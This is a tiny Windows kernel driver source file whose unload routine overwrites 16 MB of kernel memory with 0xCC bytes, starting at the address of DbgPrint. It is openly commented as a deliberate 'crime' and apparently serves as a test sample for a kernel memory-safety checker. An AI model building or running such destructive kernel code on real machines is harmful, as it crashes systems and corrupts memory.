/* Writes all over the kernel that it finds through the addresses of its imports. */
#include "kernel.h"

static VOID NTAPI DriverUnload(PDRIVER_OBJECT DriverObject)
{
    volatile UCHAR *Start = (volatile UCHAR *)(ULONG_PTR)DbgPrint;

    UNUSED(DriverObject);
    HIDE(Start);
    for (SIZE_T Distance = 0; Distance < 16 * 1024 * 1024; Distance += 64) {
        Start[Distance] = 0xCC; HERE(); /* MARK: CRIME */
    }
}

NTSTATUS NTAPI DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    UNUSED(RegistryPath);
    DriverObject->DriverUnload = DriverUnload;
    return STATUS_SUCCESS;
}
